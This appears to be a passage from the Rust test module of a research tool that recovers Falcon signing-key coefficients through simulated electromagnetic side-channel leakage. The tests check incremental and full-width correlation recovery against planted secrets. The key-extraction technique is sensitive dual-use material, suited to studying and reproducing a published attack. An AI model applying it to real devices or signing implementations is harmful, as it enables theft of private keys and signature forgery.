    for trace in 0..block.traces() {
        for occ in 0..2 {
            let k = KnownOperand::new(block.known(trace, occ));
            let window: Vec<f32> =
                StepKind::ALL.iter().map(|&s| block.sample(trace, occ, s)).collect();
            // Extend hypothesis: the product's low `width` bits, which
            // depend only on the guessed window — this is where the
            // paper's shift-family false positives live (for the full
            // 25/27-bit width it is the complete product word).
            let ext_hyps =
                exec::map(&guesses, |&g| hyp_partial_product(g & wmask, width, k.lo, full_width));
            let prune_hyps = exec::map(&guesses, |&g| match half {
                SecretHalf::Low => hyp_add_lo(g, &k),
                SecretHalf::High => hyp_add_hi(g, d_lo_for_high, &k),
            });
            extend.update(&ext_hyps, &window);
            prune.update(&prune_hyps, &window);
        }
    }
    (guesses, extend, prune)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::acquire::Dataset;
    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope};
    use falcon_sig::rng::Prng;
    use falcon_sig::{KeyPair, LogN};

    fn bench(noise: f64, seed: &[u8]) -> Device {
        let mut rng = Prng::from_seed(seed);
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, noise),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        Device::new(kp.into_parts().0, chain, b"attack bench")
    }

    fn ground_truth(dev: &Device, target: usize) -> u64 {
        dev.signing_key().f_fft()[target].to_bits()
    }

    #[test]
    fn recovers_coefficient_from_noiseless_traces() {
        let mut dev = bench(0.0, b"attack key 1");
        let truth = ground_truth(&dev, 1);
        let mut mrng = Prng::from_seed(b"attack msgs");
        let ds = Dataset::collect(&mut dev, &[1], 48, &mut mrng);
        let cfg = AttackConfig::default();
        let r = recover_coefficient(&ds, 1, &cfg);
        assert_eq!(
            r.bits,
            truth,
            "recovered {:#018x}, truth {:#018x} (lo {:#x}/{:#x} hi {:#x} exp {:#x} sign {})",
            r.bits,
            truth,
            r.mant_lo.value,
            (falcon_fpr::Fpr::from_bits(truth).mantissa_bits() | (1 << 52)) & 0x1FF_FFFF,
            r.mant_hi.value,
            r.exponent.value,
            r.sign.value,
        );
    }

    #[test]
    fn recovers_coefficient_under_noise() {
        let mut dev = bench(2.0, b"attack key 2");
        let truth = ground_truth(&dev, 3);
        let mut mrng = Prng::from_seed(b"attack msgs noisy");
        let ds = Dataset::collect(&mut dev, &[3], 600, &mut mrng);
        let cfg = AttackConfig::default();
        let r = recover_coefficient(&ds, 3, &cfg);
        assert_eq!(r.bits, truth, "recovered {:#018x}, truth {:#018x}", r.bits, truth);
        assert!(r.mant_lo.corr > r.mant_lo.runner_up);
    }

    /// Builds a synthetic dataset whose samples are the *exact* leakage
    /// model values for a planted secret — isolating the recovery logic
    /// from the device/acquisition plumbing.
    fn synthetic_dataset(secret: u64, knowns: &[u64]) -> Dataset {
        use crate::model::step_words;
        let n = 8usize; // layout degree; target index 0
        let traces = knowns.len();
        // Columnar: knowns `[occ][trace]`, samples `[occ][step][trace]`.
        let mut ks = vec![0u64; 2 * traces];
        let mut points = vec![0f32; crate::acquire::POINTS_PER_TARGET * traces];
        for (i, &k) in knowns.iter().enumerate() {
            // Two occurrences with different known operands.
            let k2 = knowns[(i + traces / 2) % traces].rotate_left(1) | 1 << 52;
            for (occ, kb) in [k, k2].into_iter().enumerate() {
                ks[occ * traces + i] = kb;
                let words = step_words(secret, &crate::model::KnownOperand::new(kb));
                for (step, w) in words.iter().enumerate() {
                    points[(occ * StepKind::COUNT + step) * traces + i] = w.count_ones() as f32;
                }
            }
        }
        Dataset::try_from_columnar_parts(n, vec![0], traces, ks, points).unwrap()
    }

    /// One planted-coefficient recovery case: exact-model samples for a
    /// random secret, random known operands.
    fn planted_case(mant: u64, exp: u64, sign: u64, seed: u64) {
        let secret = (sign << 63) | (exp << 52) | mant;
        // Plausible known operands: normal fprs with varied mantissas
        // and a narrow exponent band (like real FFT(c) values).
        let mut state = seed | 1;
        let mut next = || {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
            state
        };
        let knowns: Vec<u64> = (0..128)
            .map(|_| {
                let m = next() & ((1u64 << 52) - 1);
                let e = 1030 + (next() % 8);
                let s = next() & (1 << 63);
                s | (e << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let r = recover_coefficient(&ds, 0, &AttackConfig::default());
        assert_eq!(r.bits, secret, "planted {:#018x}, recovered {:#018x}", secret, r.bits);
    }

    #[test]
    fn recovers_random_planted_coefficients() {
        // Regression (former property-test shrink): near-degenerate
        // mantissa with a low biased exponent.
        planted_case(3367164766440640, 794, 1, 3744802627543998926);
        // Deterministic random cases (splitmix64 stream).
        let mut st = 0x706C616E74u64;
        let mut next = || {
            st = st.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = st;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        };
        for _ in 0..9 {
            let mant = next() & ((1u64 << 52) - 1);
            let exp = 1 + next() % 2046;
            let sign = next() & 1;
            let seed = next();
            planted_case(mant, exp, sign, seed);
        }
    }

    #[test]
    fn recovers_trailing_zero_mantissa() {
        // Regression: the all-zero low window has a constant hypothesis;
        // the beam must keep it alive (it once pruned such secrets).
        let secret = 0x4030_0000_0F00_0000u64; // many trailing zeros
        let knowns: Vec<u64> = (0..40)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let r = recover_coefficient(&ds, 0, &AttackConfig::default());
        assert_eq!(r.bits, secret, "recovered {:#018x}", r.bits);
    }

    #[test]
    fn monolithic_extend_has_false_positives_prune_resolves() {
        let mut dev = bench(1.0, b"attack key 3");
        let truth = ground_truth(&dev, 0);
        let tm = falcon_fpr::Fpr::from_bits(truth).mantissa_bits() | (1 << 52);
        let d_true = tm & 0x1FF_FFFF;
        let width = 8u32;
        let rest = d_true >> width;
        let mut mrng = Prng::from_seed(b"mono msgs");
        let ds = Dataset::collect(&mut dev, &[0], 400, &mut mrng);
        let (guesses, extend, prune) =
            monolithic_correlations(&ds, 0, SecretHalf::Low, width, rest, 0);
        let correct_idx = (d_true & ((1 << width) - 1)) as usize;
        assert_eq!(guesses[correct_idx], d_true);
        // Prune: the correct candidate wins on the addition step.
        let prune_rank = prune.ranking();
        assert_eq!(prune_rank[0].0, correct_idx, "prune must single out the true mantissa");
        // Extend: the multiplication step correlates for the correct
        // guess too, but with close companions (shift family).
        let (s_ext, c_ext) = extend.peak(correct_idx);
        assert!(c_ext > 0.2, "extend peak too weak: {c_ext} at {s_ext}");
    }

    /// Truth mantissa halves of a planted secret, as the attack splits
    /// them.
    fn truth_halves(secret: u64) -> (u64, u64) {
        let m = falcon_fpr::Fpr::from_bits(secret).mantissa_bits() | (1 << 52);
        (m & 0x1FF_FFFF, m >> 25)
    }

    #[test]
    fn monolithic_recovery_matches_incremental_on_windows() {
        // Windowed monolithic recovery (the same machinery as the
        // full-width paper mode, parameterised down so the test runs in
        // milliseconds) must land on the exact same half values as the
        // incremental beam.
        let secret = 0x4013_5A7E_29C4_D1B3u64;
        let knowns: Vec<u64> = (0..64)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let (d_lo, c_hi) = truth_halves(secret);
        let width = 10u32;
        let lo = recover_mantissa_half_monolithic(
            &ds,
            0,
            SecretHalf::Low,
            Some(c_hi),
            width,
            d_lo >> width,
            32,
        );
        assert_eq!(lo.value, d_lo, "monolithic low {:#x}, truth {:#x}", lo.value, d_lo);
        assert!(lo.corr > lo.runner_up);
        let hi = recover_mantissa_half_monolithic(
            &ds,
            0,
            SecretHalf::High,
            Some(d_lo),
            width,
            c_hi >> width,
            32,
        );
        assert_eq!(hi.value, c_hi, "monolithic high {:#x}, truth {:#x}", hi.value, c_hi);
    }

    #[test]
    fn monolithic_keeps_all_zero_window_alive() {
        // The all-zero window is unfalsifiable by the extend score; the
        // monolithic path must protect it just like the beam does.
        let secret = (1027u64 << 52) | (0x7F << 30); // low 25 mantissa bits zero
        let knowns: Vec<u64> = (0..40)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x2545_F491_4F6C_DD1D) & ((1u64 << 52) - 1);
                (1030u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let (d_lo, c_hi) = truth_halves(secret);
        assert_eq!(d_lo, 0, "test premise: degenerate low half");
        let width = 8u32;
        let lo =
            recover_mantissa_half_monolithic(&ds, 0, SecretHalf::Low, Some(c_hi), width, 0, 16);
        assert_eq!(lo.value, 0, "monolithic low {:#x}", lo.value);
    }

    #[test]
    #[ignore = "paper-scale 2^25 enumeration: minutes on one core; run explicitly"]
    fn monolithic_full_width_low_half() {
        // The real thing: the full 2^25 one-shot enumeration of the low
        // mantissa half, as a campaign would run it with
        // `monolithic_keep` set.
        let secret = 0x4013_5A7E_29C4_D1B3u64;
        let knowns: Vec<u64> = (0..16)
            .map(|i: u64| {
                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
                (1031u64 << 52) | m
            })
            .collect();
        let ds = synthetic_dataset(secret, &knowns);
        let (d_lo, c_hi) = truth_halves(secret);
        let lo = recover_mantissa_half_monolithic(&ds, 0, SecretHalf::Low, Some(c_hi), 25, 0, 64);
        assert_eq!(lo.value, d_lo, "monolithic low {:#x}, truth {:#x}", lo.value, d_lo);
    }
}
